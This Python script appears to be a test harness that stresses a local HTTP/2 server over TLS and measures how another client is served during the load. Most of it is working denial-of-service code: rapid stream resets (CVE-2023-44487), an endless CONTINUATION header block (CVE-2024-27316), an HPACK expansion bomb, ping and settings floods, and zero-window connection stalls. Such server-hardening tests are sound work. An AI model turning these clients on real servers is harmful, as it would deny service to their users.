"""HTTP/2 clients that mean harm or are slow, over TLS. Each prints one line of JSON about what the server did, and how another
client fared meanwhile.

usage: http2.py resets PORT COUNT          streams opened and reset at once (CVE-2023-44487)
       http2.py continuations PORT COUNT   a header block that never ends (CVE-2024-27316)
       http2.py bomb PORT COUNT            a small block that expands to COUNT fields of 4 KiB
       http2.py pings PORT COUNT           pings whose answers nobody reads
       http2.py settings PORT COUNT        the same with settings
       http2.py stalls PORT COUNT PATH     connections of 50 requests each that allow no byte of an answer
       http2.py slowly PORT BYTES PATH     one file, in windows of that size; its digest
       http2.py watch PORT                 another client, until the standard input ends
"""

import hashlib
import json
import select
import socket
import ssl
import struct
import subprocess
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
LIMIT = 60


def frame(kind, flags=0, stream=0, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + payload


def text(value):
    """A string literal without Huffman coding (RFC 7541 section 5.2)."""
    size, more = len(value), b''
    if size >= 127:
        size, rest = 127, size - 127
        while rest >= 128:
            more, rest = more + bytes([rest & 127 | 128]), rest >> 7
        more += bytes([rest])
    return bytes([size]) + more + value


def field(name, value, kind=0):
    return bytes([kind]) + text(name) + text(value)


def request(path):
    return (field(b':method', b'GET') + field(b':scheme', b'https') + field(b':authority', b'localhost')
            + field(b':path', path.encode()))


class Connection:
    def __init__(self, port, protocol='h2', receive_buffer=None):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        plain = socket.socket()
        if receive_buffer:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        plain.settimeout(LIMIT)
        plain.connect(('127.0.0.1', port))
        self.socket = context.wrap_socket(plain, server_hostname='localhost')
        self.buffer = b''

    def begin(self, window=65535):
        setting = struct.pack('>HI', INITIAL_WINDOW_SIZE, window)
        self.socket.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, payload=setting))
        return self

    def take(self, count):
        while len(self.buffer) < count:
            data = self.socket.recv(65536)
            if not data:
                raise EOFError
            self.buffer += data
        taken, self.buffer = self.buffer[:count], self.buffer[count:]
        return taken

    def read(self):
        """Kind, flags, stream and payload of the next frame; settings and pings are answered."""
        while True:
            head = self.take(9)
            kind, flags, stream = head[3], head[4], struct.unpack('>I', head[5:])[0] & 0x7fffffff
            payload = self.take(int.from_bytes(head[:3], 'big'))
            if kind in (SETTINGS, PING) and not flags & ACK:
                self.socket.sendall(frame(kind, ACK, payload=payload if kind == PING else b''))
                continue
            return kind, flags, stream, payload

    def end(self):
        """The code of the server's GOAWAY, if it sends one in front of the end."""
        code = None
        try:
            while True:
                kind, _, _, payload = self.read()
                if kind == GOAWAY:
                    code = struct.unpack('>I', payload[4:8])[0]
        except (OSError, EOFError):
            return code


def watch(port):
    """Keeps a connection, as another client would, and opens one now and then."""
    slowest, requests, connection = 0, 0, None
    while not select.select([sys.stdin], [], [], 0.005)[0] or requests < 20:
        began = time.monotonic()
        if requests % 20 == 0:
            connection = Connection(port, 'http/1.1')
        connection.socket.sendall(b'GET / HTTP/1.1\r\nHost: other\r\n\r\n')
        answer = b''
        while b'\r\n\r\n' not in answer:
            answer += connection.socket.recv(65536) or sys.exit('another client lost its connection')
        head, _, body = answer.partition(b'\r\n\r\n')
        if not head.startswith(b'HTTP/1.1 200'):
            sys.exit(f'another client got {answer[:100]!r}')
        size = next(int(line.split(b':')[1]) for line in head.split(b'\r\n') if line.lower().startswith(b'content-length'))
        while len(body) < size:
            body += connection.socket.recv(65536)
        slowest, requests = max(slowest, time.monotonic() - began), requests + 1
        if requests == 1:
            print('watching', flush=True)
    return {'requests': requests, 'slowest_other_ms': round(slowest * 1000, 1)}


class Other:
    """`watch` in a process of its own, so that it does not wait for us."""

    def __init__(self, port):
        command = [sys.executable, __file__, 'watch', str(port)]
        self.process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        # On a busy machine the attack would be over before it had asked for anything.
        self.process.stdout.readline()

    def result(self):
        output = self.process.communicate(timeout=LIMIT)[0]
        if self.process.returncode:
            sys.exit('another client was not served')
        return json.loads(output)


def attack(port, count, first, part):
    """Sends `part(number)` up to `count` times behind `first`, without reading, until the server ends the connection."""
    other, began, sent = Other(port), time.monotonic(), 0
    connection = Connection(port, receive_buffer=4096).begin()
    try:
        connection.socket.sendall(first)
        while sent < count:
            connection.socket.sendall(b''.join(part(sent + more) for more in range(50)))
            sent += 50
    except OSError:
        pass
    code = connection.end()
    seconds = time.monotonic() - began
    # What the attack leaves behind would show in the next moments.
    time.sleep(0.5)
    return {'sent': sent, 'code': code, 'seconds': round(seconds, 2)} | other.result()


def resets(port, count):
    block = request('/')

    def part(number):
        stream = 2 * number + 1
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, b'\0\0\0\x08')

    return attack(port, count, b'', part)


def continuations(port, count):
    return attack(
        port, count, frame(HEADERS, END_STREAM, 1, request('/')),
        lambda number: frame(CONTINUATION, 0, 1, field(b'x-%d' % number, b'y')))


def bomb(port, count):
    large = field(b'x-large', b'y' * 3900, kind=0x40)
    # 62 is the newest entry of the dynamic table (RFC 7541 section 2.3.3).
    block = request('/') + large + bytes([0x80 | 62]) * count
    return attack(port, 1, frame(HEADERS, END_STREAM | END_HEADERS, 1, block[:16000]), lambda number: b'')


def pings(port, count):
    return attack(port, count, b'', lambda number: frame(PING, payload=struct.pack('>Q', number)))


def settings(port, count):
    return attack(port, count, b'', lambda number: frame(SETTINGS, payload=struct.pack('>HI', INITIAL_WINDOW_SIZE, 1)))


def stalls(port, count, path):
    """How long the server keeps answers that nobody lets it send."""
    other, block, began, ends, resets = Other(port), request(path), time.monotonic(), [], 0
    connections = [Connection(port).begin(window=0) for _ in range(count)]
    for connection in connections:
        connection.socket.sendall(
            b''.join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, block) for number in range(50)))
    for connection in connections:
        left = 50
        while left and time.monotonic() - began < LIMIT:
            kind, flags, _, payload = connection.read()
            if kind == DATA and payload:
                sys.exit('bytes of an answer came past the window')
            if kind == RST_STREAM or flags & END_STREAM and kind == HEADERS:
                left, resets = left - 1, resets + 1
                ends.append(time.monotonic() - began)
    return {
        'clients': count, 'ended': resets, 'first': round(min(ends), 2), 'last': round(max(ends), 2)} | other.result()


def slowly(port, window, path):
    """A file over a connection that never allows more than `window` bytes at a time."""
    connection = Connection(port, receive_buffer=4096).begin(window)
    connection.socket.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 1, request(path)))
    digest, size, began = hashlib.sha256(), 0, time.monotonic()
    while True:
        kind, flags, _, payload = connection.read()
        if kind in (RST_STREAM, GOAWAY):
            sys.exit(f'the server gave up after {size} bytes')
        if kind != DATA:
            continue
        if len(payload) > window:
            sys.exit(f'{len(payload)} bytes came past a window of {window}')
        digest.update(payload)
        size += len(payload)
        if flags & END_STREAM:
            break
        more = struct.pack('>I', len(payload))
        if payload:
            connection.socket.sendall(frame(WINDOW_UPDATE, 0, 0, more) + frame(WINDOW_UPDATE, 0, 1, more))
    seconds = time.monotonic() - began
    return {'size': size, 'digest': digest.hexdigest(), 'seconds': round(seconds, 2)}


def main(what, port, *more):
    values = [int(value) if value.isdigit() else value for value in more]
    print(json.dumps(globals()[what](int(port), *values)))


main(*sys.argv[1:])
